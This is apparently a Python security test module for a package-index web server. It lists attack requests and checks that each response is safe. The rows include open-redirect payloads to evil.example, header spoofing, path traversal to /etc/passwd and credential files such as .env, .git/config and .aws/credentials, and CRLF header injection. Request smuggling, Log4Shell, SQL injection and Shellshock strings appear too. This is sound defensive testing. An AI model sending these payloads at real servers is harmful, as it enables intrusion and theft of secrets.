"""Requests of attackers, and what every web server must respond with."""
from __future__ import annotations

import re
from collections.abc import Iterable, Mapping
from typing import NamedTuple
from urllib.parse import urlsplit

from tests.support.hosts import OUTSIDE, POLICY, PRIVATE, PRIVATE_FILES, V1_HTML, V1_JSON, varies
from tests.support.servers import Response, Server

_OK = frozenset({200})
_MISSING = frozenset({404})
# Some servers refuse a malformed request, others look for its path.
_REFUSED = frozenset({400, 404})
_REDIRECTS = frozenset({301, 302, 303, 307, 308})
# Apache responds with 403 outside the path of the index.
_ANY = _OK | _REDIRECTS | _REFUSED | {403}
_NOT_ALLOWED = frozenset({405})


class Row(NamedTuple):
    """A request, and the response's status and policy.

    In `target` and `headers`, `{base}` stands for the path of the index, which starts and ends with
    a slash, and `{index}` for the same path without the first slash. `policy` is what the response
    must be if its status is 200: 'page' of the index, or 'sandbox': a browser runs none of its
    scripts. `is_json` is which form of a negotiated page it must be.
    """
    target: str
    statuses: frozenset[int]
    headers: tuple[str, ...] = ()
    method: str = 'GET'
    version: str = '1.1'
    body: str = ''
    policy: str | None = None
    is_json: bool | None = None

    def __str__(self) -> str:
        """Name the row in a message."""
        return ' '.join([self.method, self.target[:90], *(line[:90] for line in self.headers[:3])])

    def request(self, site: Server) -> bytes:
        """Return the bytes to send to a server."""
        address = urlsplit(site.url)
        lines = [f'{self.method} {self.target} HTTP/{self.version}', *self.headers]
        names = {line.partition(':')[0].lower() for line in self.headers}
        if 'host' not in names and self.version == '1.1':
            lines.insert(1, f'Host: {address.netloc}')
        if 'connection' not in names:
            lines.append('Connection: close')
        text = '\r\n'.join(lines).replace('{base}', address.path)
        text = text.replace('{index}', address.path[1:])
        return f'{text}\r\n\r\n{self.body}'.encode('latin-1')


def rows(
        targets: Iterable[str], statuses: frozenset[int], policy: str | None = None,
) -> list[Row]:
    """Return a row for each target."""
    return [Row(target, statuses, policy=policy) for target in targets]


# Each names another host, in a place from which a careless server copies it to `Location`.
REDIRECTING = rows((
    '//evil.example/..%2f{index}simple?format=json',
    '//evil.example/..%2f{index}simple',
    '//evil.example/..%2F..%2f{index}simple/ocelot?format=json',
    '//evil.example/%2e%2e/{index}simple?format=json',
    '//evil.example/%2e%2e%2f{index}simple',
    '//evil.example%2f..%2f{index}simple?format=json',
    '//evil.example/../{index}simple?format=json',
    '//evil.example/..;/{index}simple?format=json',
    '///evil.example/..%2f{index}simple?format=json',
    '////evil.example/..%2f..%2f{index}project/ocelot',
    '/%2fevil.example/..%2f{index}simple?format=json',
    '/%2fevil.example/../{index}simple?format=json',
    '/%2f/evil.example/..%2f{index}simple',
    '/%2fevil.example/..',
    '/%2fevil.example/%2e%2e',
    '/%5cevil.example/..%2f{index}simple?format=json',
    '/%5cevil.example/../{index}simple?format=json',
    '/%5c%5cevil.example/%2e%2e/{index}simple',
    '/\\evil.example/..%2f{index}simple?format=json',
    '/\\\\evil.example/..%2f{index}simple',
    '\\\\evil.example/..%2f{index}simple',
    '/%09/evil.example/..%2f..%2f{index}simple?format=json',
    '/%0a/evil.example/..%2f..%2f{index}simple?format=json',
    '/.//evil.example/..%2f{index}simple?format=json',
    '/..//evil.example/..%2f{index}simple?format=json',
    '/x/..//evil.example/..%2f{index}simple?format=json',
    '//evil.example/..%2f{index}packages.json/',
    '//evil.example/..%2f{index}simple/index.html/',
    '//evil.example/..%2f{index}empty',
    '//evil.example{base}simple/ocelot',
    '//evil.example@{index}simple',
    '//user:pass@evil.example/..%2f{index}simple',
    '/https://evil.example/..%2f..%2f..%2f{index}simple?format=json',
    '/https:evil.example/..%2f{index}simple?format=json',
    '{base}/evil.example/..%2fsimple?format=json',
    '{base}%2fevil.example/..%2fsimple?format=json',
    '{base}%5cevil.example%2f..%2fsimple?format=json',
    '{base}%2f%2fevil.example%2f..%2fsimple',
    '{base}simple%2f..%2f..%2fevil.example%2f..%2f{index}simple',
    '{base}simple//evil.example/..?format=json',
    '{base}simple/%5c%5cevil.example',
    '{base}simple/%2f%2fevil.example',
    '{base}simple/http:%2f%2fevil.example',
    '{base}simple/javascript:alert(1)',
    '{base}simple?format=//evil.example/',
    '{base}simple?format=http://evil.example/',
    '{base}simple?//evil.example/',
    '{base}simple?format=json&next=http://evil.example/',
    '{base}simple?format=json%0d%0aSet-Cookie:%20a=b',
    '{base}simple?format=json%0aLocation:%20http://evil.example/',
    '{base}simple/ocelot?format=%00',
    '{base}simple%0d%0aSet-Cookie:%20a=b',
    '{base}simple/ocelot%0d%0aLocation:%20http://evil.example/',
    '/%0d%0aLocation:%20http:%2f%2fevil.example%2f..%2f..%2f..%2f..%2f{index}simple?format=json',
    '{base}simple%3f//evil.example/',
    '{base}simple%23//evil.example/',
    '{base}simple;//evil.example/',
    '{base}simple/ocelot%2f',
    '{base}simple/%e2%80%ae',
    '{base}simple/%ff%fe',
    'http://evil.example{base}simple',
    'http://evil.example//evil.example/..%2f{index}simple?format=json',
    'HTTP://EVIL.EXAMPLE{base}simple/ocelot?format=json',
    'https://evil.example{base}simple',
    'http://evil.example:80{base}project/ocelot',
    'http://evil.example',
), _ANY)

# Headers that name another host or another path. Old proxies and frameworks believe them.
FORWARDING = [
    Row(target, _REDIRECTS if refused is None else _REDIRECTS | refused, headers)
    for target in ('{base}simple', '{base}simple/ocelot?format=json')
    for headers, refused in (
        (('Host: evil.example',), None),
        (('Host: evil.example:80',), None),
        (('Host: evil.example', 'X-Forwarded-Proto: https'), None),
        (('Host: evil.example@127.0.0.1',), _REFUSED),
        (('Host: evil.example/x?',), _REFUSED),
        (('Host: evil.example\\.127.0.0.1',), _REFUSED),
        (('Host: ',), _REFUSED),
        (('Host: 127.0.0.1', 'Host: evil.example'), _REFUSED),
        (('X-Forwarded-Host: evil.example',), None),
        (('X-Forwarded-Server: evil.example', 'X-Host: evil.example'), None),
        (('X-Forwarded-Proto: javascript', 'X-Forwarded-Port: 1'), None),
        (('X-Forwarded-Prefix: //evil.example', 'X-Forwarded-Path: //evil.example'), None),
        (('Forwarded: for=127.0.0.1;host=evil.example;proto=https',), None),
        (('X-Original-Url: //evil.example/', 'X-Rewrite-Url: //evil.example/'), None),
        (('Referer: http://evil.example/', 'Origin: http://evil.example'), None),
    )
] + [
    Row('{base}simple', _REDIRECTS | _REFUSED, version='1.0'),
    Row('{base}simple', _REDIRECTS, ('Host: evil.example',), version='1.0'),
    Row('{base}nothing', _MISSING, ('X-Original-Url: /.env', 'X-Rewrite-Url: /.git/config')),
]

# Files outside the document root.
TRAVERSING = rows((
    f'/../{OUTSIDE}', f'{{base}}../{OUTSIDE}', f'{{base}}../../{OUTSIDE}',
    f'{{base}}..%2f{OUTSIDE}', f'{{base}}%2e%2e/{OUTSIDE}', f'{{base}}%2e%2e%2f{OUTSIDE}',
    f'{{base}}.%2e/{OUTSIDE}', f'{{base}}..%5c{OUTSIDE}', f'{{base}}..\\{OUTSIDE}',
    f'{{base}}%252e%252e/{OUTSIDE}', f'{{base}}%252e%252e%252f{OUTSIDE}',
    f'{{base}}..%252f{OUTSIDE}', f'{{base}}..;/{OUTSIDE}', f'{{base}}....//{OUTSIDE}',
    f'{{base}}%c0%ae%c0%ae%c0%af{OUTSIDE}', f'{{base}}%u002e%u002e/{OUTSIDE}',
    f'{{base}}..%00/{OUTSIDE}', f'{{base}}pool/../../{OUTSIDE}',
    f'{{base}}pool/..%2f..%2f{OUTSIDE}', f'{{base}}static/..%2f..%2f..%2f{OUTSIDE}',
    f'{{base}}simple/..%2f..%2f{OUTSIDE}%00', f'{{base}}simple/%2e%2e/%2e%2e/%2e%2e/{OUTSIDE}',
    f'{{base}}pypi/..%2f..%2f{OUTSIDE}/json', f'{{base}}simple/..%2f..%2f{OUTSIDE}%23/',
    f'{{base}}../../{OUTSIDE}?format=json', f'//../{OUTSIDE}', f'/x/../../{OUTSIDE}',
    f'{{base}}./..//../{OUTSIDE}', f'{{base}}pool../{OUTSIDE}', f'/{OUTSIDE}',
    '{base}..', '{base}../', '/etc/passwd', '//etc/passwd', '{base}//etc/passwd',
    '{base}../../../../../../../../../../etc/passwd', '{base}%2fetc%2fpasswd',
    '{base}' + '..%2f' * 30 + 'etc/passwd', 'file:///etc/passwd', '{base}file:///etc/passwd',
    '{base}~root/', '{base}%7eroot/.profile', '/proc/self/environ', '{base}C:%5cboot.ini',
), _ANY)

# Dot files, among them the build's own state.
HIDDEN = rows((
    *(f'{{base}}{name}' for name in PRIVATE_FILES),
    '{base}.dumb-pypi/state.json', '{base}.dumb-pypi/lock', '{base}.dumb-pypi', '{base}.dumb-pypi/',
    '{base}.git', '{base}.git/', '{base}%2egit/config', '{base}%2Egit/config',
    '{base}.%67it/config', '{base}.git%2fconfig', '{base}%2egit%2fconfig', '{base}./.git/config',
    '{base}/.git/config', '{base}//.git//config', '{base}pool/../.git/config',
    '{base}pool/..%2f.git/config', '{base}pool/%2e%2e/%2egit/config', '{base}.git/../.git/config',
    '{base}.env/', '{base}.env?format=json', '{base}.env?x=.well-known/', '{base}%2eenv',
    '{base}.en%76', '{base}%2eenv.html', '{base}.well-known/../.env', '{base}.well-known/..%2f.env',
    '{base}.well-known/%2e%2e/.env', '{base}.well-known/%2ekey', '{base}.well-known%2f.key',
    '{base}.well-knownx', '{base}.well-known.env', '{base}pool/%2enetrc', '{base}pool%2f.netrc',
    '{base}pool//.netrc', '{base}pool/.keys/', '{base}pool/.keys%2fkey.pem',
    '{base}pool/.well-known/key', '{base}simple/.git/config?format=json', '{base}simple/.git/',
    '{base}.htpasswd?', '{base}%2ehtpasswd', '{base}.HTPASSWD', '{base}.svn/entries',
    '{base}.aws/credentials', '{base}..env', '{base}...',
), _MISSING) + rows((
    # With a NUL byte or an unusual character, some servers refuse the request.
    '{base}.env%00', '{base}.env%00.html', '{base}%00.env', '{base}.env%20', '{base}.env%0a',
    '{base}.env;x=1', '{base}.env#x', '{base}.env%23', '{base}.env%3f', '{base}.env.',
    '{base}.env%2e', '{base}\\.env', '{base}%5c.env', '{base}.git\\config', '{base}.git%5cconfig',
    '{base}%252eenv', '{base}%2565nv', '{base}.env%c0%ae', '{base}.env::$DATA',
), _REFUSED | {403}) + [
    Row('{base}.env', _MISSING, ('Accept-Encoding: gzip',)),
    Row('{base}.env', _MISSING, ('Range: bytes=0-3',)),
    Row('{base}.env', _MISSING, ('If-None-Match: *',)),
    Row('{base}.env', _MISSING, ('If-Modified-Since: Fri, 01 Jan 2100 00:00:00 GMT',)),
    Row('{base}.env', _MISSING, (f'Accept: {V1_JSON}',)),
    Row('{base}.env', _MISSING, method='HEAD'),
    Row('http://evil.example{base}.env', _REFUSED),
]

# Only GET, HEAD and OPTIONS are allowed. TRACE would repeat the secret of a header.
METHODS = [
    Row(target, _NOT_ALLOWED, (f'X-Secret: {PRIVATE}',), method)
    for method in ('TRACE', 'POST', 'PUT', 'PATCH', 'DELETE', 'PROPFIND', 'MKCOL', 'COPY', 'MOVE',
                   'LOCK', 'SEARCH', 'PURGE')
    for target in ('{base}', '{base}simple/', '{base}simple/ocelot/', '{base}simple',
                   '{base}pool/evil.svg', '{base}pypi/ocelot/json')
] + [
    Row(target, _NOT_ALLOWED | _MISSING, (f'X-Secret: {PRIVATE}',), method)
    for method in ('TRACE', 'POST', 'PUT') for target in ('{base}.env', '{base}nothing')
] + [
    # Node.js, which runs the edge function, knows no such methods.
    Row('{base}simple/', frozenset({400, 405}), method=method)
    for method in ('FOO', 'get', 'G@T', 'TRACK', 'DEBUG')
] + [
    Row('evil.example:443', frozenset({0, 400, 403, 404, 405}), method='CONNECT'),
    Row('*', _REFUSED | _NOT_ALLOWED),
    Row('{base}simple/', _OK, ('X-HTTP-Method-Override: DELETE', 'X-Method-Override: PUT')),
]

# What browsers show: the pages of the index, and files that somebody uploaded.
SHOWN = rows((
    '{base}', '{base}index.html', '{base}simple/', '{base}simple/index.html',
    '{base}simple/ocelot/', '{base}simple/ocelot/index.html', '{base}project/ocelot/',
    '{base}project/purr-box/index.html', '{base}changelog/', '{base}changelog/index.html',
    '{base}?format=json', '{base}project/%6fcelot/', '{base}simple/ocelot/?format=html',
), _OK, policy='page') + rows((
    '{base}pool/evil.svg', '{base}pool/evil%2esvg',
    '{base}pool/evil.svg?format=json', '{base}pool/evil.html',
    '{base}pool/evil.HTML', '{base}pool/evil.htm', '{base}pool/evil.xhtml', '{base}pool/evil.xml',
    '{base}pool/evil.js', '{base}pool/evil.svg.metadata', '{base}pool/evil.html?x=/simple/',
    '{base}pool/project/evil/index.html', '{base}simple/ocelot/evil.html', '{base}static/evil.html',
    '{base}evil.html', '{base}pool/site/index.html',
    '{base}pool/ocelot-1.2-py3-none-any.whl', '{base}rss/updates.xml', '{base}pypi/ocelot/json',
), _OK, policy='sandbox') + rows((
    # Below a path, .well-known belongs to nobody.
    '{base}.well-known/security.txt', '{base}pool/../pool/evil.svg', '{base}pool/evil.html/',
    '{base}pool/site/', '{base}simple/..%2fpool%2fevil.html',
    '{base}pool/evil.html%3f/simple/index.html', '{base}pool/evil.html;/index.html',
    '{base}pool/evil.svg%00.html', '{base}//pool//evil.html',
), _ANY, policy='sandbox')

_LONG = 7900


def _accepts() -> list[Row]:
    forms: list[tuple[str, bool | None]] = [
        (f'{V1_JSON};q=0.{"1" * _LONG}', True),
        (f'{V1_JSON};q=0.{"0" * _LONG}', False),
        (f'{V1_JSON};q=0.{"0" * _LONG}1', False),
        (f'{V1_JSON};q=0.{"10" * (_LONG // 2)}', True),
        (f'{V1_JSON};q=0.{"10" * (_LONG // 2)}x', None),
        (f'{V1_JSON};q=1.{"0" * _LONG}', True),
        (f'{V1_JSON};q=0.5001, {V1_HTML};q=0.5, text/html;q=0.5', False),
        (f'{V1_JSON};q=0.5019, {V1_HTML};q=0.501, text/html;q=0.501', False),
        (f'{V1_JSON};q=0.502, {V1_HTML};q=0.5019, text/html;q=0.5019', True),
        (f'{V1_JSON}{";" * _LONG}', True),
        (f'{V1_JSON}{"; " * (_LONG // 2)}', True),
        (f'{V1_JSON};{" " * _LONG}q=0', False),
        (f'{V1_JSON};q{" " * _LONG}=0', False),
        (f'{V1_JSON}{";x=y" * (_LONG // 4)};q=0', False),
        (f'{V1_JSON}{";q=x" * (_LONG // 4)}', None),
        (f'{"," * _LONG}{V1_JSON}', True),
        (f'{" ," * (_LONG // 2)}{V1_JSON}', True),
        (f'{"a/b;q=1," * (_LONG // 8)}{V1_JSON}', True),
        (f'{"text/html;q=0.1," * (_LONG // 16)}{V1_JSON}', True),
        (f'{V1_JSON}{" " * _LONG}x', False),
        (f'{V1_JSON[:-1] * (_LONG // len(V1_JSON))}', False),
        (f'{V1_JSON};q="0.9", text/html', False),
        (f'{V1_JSON};q=-1', None),
        (f'{V1_JSON};q=NaN', None),
        (f'{V1_JSON};q=1e9, text/html', False),
        (f'{V1_JSON};q=0x1', None),
        (f'{V1_JSON};q=', None),
        (f'{V1_JSON}\x0b;q=1', None),
        (f'\xff{V1_JSON}', False),
        ('*' * _LONG, False),
        ('*/*;' * (_LONG // 4), False),
        ("'; DROP TABLE projects; --", False),
        ('../../../../etc/passwd', False),
        ('${jndi:ldap://evil.example/}', False),
        ('{http.request.host}, {env.PATH}, %{HTTP_HOST}, $document_root, $1, ${1}', False),
    ]
    return [
        Row('{base}simple/ocelot/', _OK | {400}, (f'Accept: {accept}',), is_json=is_json)
        for accept, is_json in forms
    ]


ACCEPTING = [
    *_accepts(),
    Row('{base}simple/ocelot/', _OK | {400}, ('Accept: a', f'Accept: {V1_JSON}')),
    Row('{base}simple/ocelot/', _OK | {400}, ('Accept: \x00',)),
    Row('{base}simple/ocelot/?format=json&format=html', _OK),
    Row('{base}simple/ocelot/?format[]=json', _OK, is_json=False),
    Row('{base}simple/ocelot/?FORMAT=json', _OK),
    Row('{base}simple/ocelot/?format=' + '%2B' * 2000, _OK, is_json=False),
    Row('{base}simple/ocelot/?format=..%2f..%2f.env', _OK, is_json=False),
    Row('{base}simple/ocelot/?format=json%00', _OK | {400}),
    Row('{base}simple/ocelot/?' + '&' * 4000 + 'format=json', _OK),
    Row('{base}simple/ocelot/?' + '?format=json' * 300, _OK),
]

# Requests that are malformed, too large, or that servers and proxies disagree about.
MALFORMED = [
    Row('{base}simple/ocelot/', statuses, headers, version=version, body=body)
    for headers, statuses, version, body in (
        ((f'Range: bytes={",".join(f"{n}-{n}" for n in range(900))}',), _OK | {206, 400, 416},
         '1.1', ''),
        (('Range: bytes=18446744073709551615-',), _OK | {400, 416}, '1.1', ''),
        (('Range: bytes=-18446744073709551616',), _OK | {206, 400, 416}, '1.1', ''),
        (('Range: bytes=5-1',), _OK | {206, 400, 416}, '1.1', ''),
        (('Range: lines=0-1',), _OK | {400, 416}, '1.1', ''),
        (('If-Range: "x"', 'Range: bytes=0-0'), _OK | {206}, '1.1', ''),
        ((f'If-None-Match: {", ".join(["""W/"x" """] * 900)}',), _OK, '1.1', ''),
        (('If-None-Match: ' + '"' * 4000,), _OK | {304}, '1.1', ''),
        (('If-Modified-Since: yesterday',), _OK | {304}, '1.1', ''),
        (('If-Modified-Since: Thu, 01 Jan 99999 00:00:00 GMT',), _OK | {304}, '1.1', ''),
        (('Accept-Encoding: gzip;q=' + '0' * 4000,), _OK, '1.1', ''),
        (('Accept-Encoding: ' + 'gzip,' * 1000,), _OK, '1.1', ''),
        (('Accept-Encoding: ../../.env',), _OK, '1.1', ''),
        (('Content-Length: 3',), _OK | {400, 413}, '1.1', 'abc'),
        (('Content-Length: -1',), _OK | {400}, '1.1', ''),
        (('Content-Length: 1', 'Content-Length: 2'), frozenset({400}), '1.1', 'ab'),
        (('Content-Length: 5', 'Transfer-Encoding: chunked'), _OK | {400}, '1.1', '0\r\n\r\n'),
        (('Transfer-Encoding: chunked',), _OK | {400, 413}, '1.1', '3\r\nabc\r\n0\r\n\r\n'),
        (('Transfer-Encoding: chunked',), _OK | {400}, '1.1', 'XYZ\r\n'),
        (('X-A: 1\r\n folded: 2',), _OK | {400}, '1.1', ''),
        (('X-A : 1',), _OK | {400}, '1.1', ''),
        (('no colon',), _OK | {400}, '1.1', ''),
        ((f'X-A: {"a" * 60_000}',), _OK | {400, 414, 431}, '1.1', ''),
        (tuple(f'X-{n}: {n}' for n in range(300)), _OK | {400, 431}, '1.1', ''),
        (('Expect: 100-continue',), _OK, '1.1', ''),
        (('Upgrade: h2c', 'Connection: Upgrade, HTTP2-Settings, close', 'HTTP2-Settings: AAMAAABk'),
         _OK, '1.1', ''),
        (('Connection: close, Accept, Host',), _OK, '1.1', ''),
        (('Cookie: ' + 'a=b;' * 1000, 'Authorization: Basic !!!'), _OK | {400}, '1.1', ''),
        (('User-Agent: () { :;}; echo evil',), _OK, '1.1', ''),
    )
] + [
    Row('{base}' + 'a' * 60_000, frozenset({400, 404, 414, 431})),
    Row('{base}simple/' + 'a/' * 3000, frozenset({400, 404, 414})),
    Row('{base}' + '../' * 2000 + 'etc/passwd', frozenset({400, 404, 414})),
    Row('{base}simple/' + '%2e' * 2000 + '/', frozenset({400, 404, 414})),
    Row('{base}simple/%', _ANY),
    Row('{base}simple/%zz/', _REFUSED),
    Row('{base}simple/\x01/', _REFUSED),
    Row('{base}simple/a b/', _REFUSED),
    Row('{base}simple/\xe9/', _REFUSED),
    Row('', _REFUSED),
    Row('simple/', _REFUSED),
    Row('?', _ANY),
    Row('{base}simple/ocelot/index.json/../../../.env', _MISSING),
    Row('{base}pypi/ocelot/json/', _MISSING),
    Row('{base}pypi/ocelot/..%2f..%2f.env/json', _MISSING),
    Row('{base}packages.json.gz/', _MISSING),
]

GROUPS = {
    'redirects': REDIRECTING,
    'other hosts in headers': FORWARDING,
    'files outside the root': TRAVERSING,
    'dot files': HIDDEN,
    'methods': METHODS,
    'scripts in browsers': SHOWN,
    'negotiation': ACCEPTING,
    'malformed requests': MALFORMED,
}


def faults(row: Row, site: Server, response: Response) -> list[str]:
    """Return what is wrong with the response to a row, [] if nothing is."""
    found = []
    status, headers, body = response
    if status not in row.statuses:
        found.append(f'the status is {status}')
    if status >= 500:
        found.append('the server failed')
    if 'Location' in headers and not _stays(headers['Location'], urlsplit(site.url).netloc):
        found.append(f'it redirects to {headers["Location"]!r}')
    if b'http://evil.example' in body and 'evil.example' not in row.target:
        found.append('the body links to another host')
    sent = body + repr(headers).encode()
    if PRIVATE.encode() in sent or b'root:' in sent:
        found.append('it discloses a secret')
    if 'Set-Cookie' in headers:
        found.append('a header was injected')
    if status == 200 and not headers.get('Content-Type'):
        found.append('it has no content type')
    if headers.get('X-Content-Type-Options', 'nosniff') != 'nosniff':
        found.append('browsers may guess the type')
    if status == 200 and 'Accept' in varies(response) and 'simple' not in row.target.lower():
        found.append('Vary has Accept although the page is not negotiated')
    if '*' in varies(response):
        found.append('no cache can keep it')
    if status == 200 and row.policy is not None:
        policy = headers.get('Content-Security-Policy', '')
        is_page = policy == POLICY
        if is_page != (row.policy == 'page') or not (is_page or _is_inert(policy, headers)):
            found.append(f'the policy is {policy!r}')
    if status == 200 and row.is_json is not None:
        expected = V1_JSON if row.is_json else 'text/html'
        if headers.get('Content-Type') != expected or 'Accept' not in varies(response):
            found.append(f'{headers.get("Content-Type")}, which varies by {varies(response)}')
    return found


def _stays(location: str, host: str) -> bool:
    """Return whether a browser that follows a redirect stays on the same host."""
    # Browsers strip control characters, and read a backslash as a slash.
    location = re.sub(r'[\x00-\x20]', '', location).replace('\\', '/')
    if re.match('//|[a-z][a-z0-9+.-]*:', location, re.IGNORECASE):
        return location.startswith(f'http://{host}/')
    return True


def _is_inert(policy: str, headers: Mapping[str, str]) -> bool:
    """Return whether a browser runs no script of the response."""
    return (
        policy == 'sandbox'
        or headers.get('Content-Disposition', '').startswith('attachment')
        or headers['Content-Type'] == 'application/octet-stream'
    )
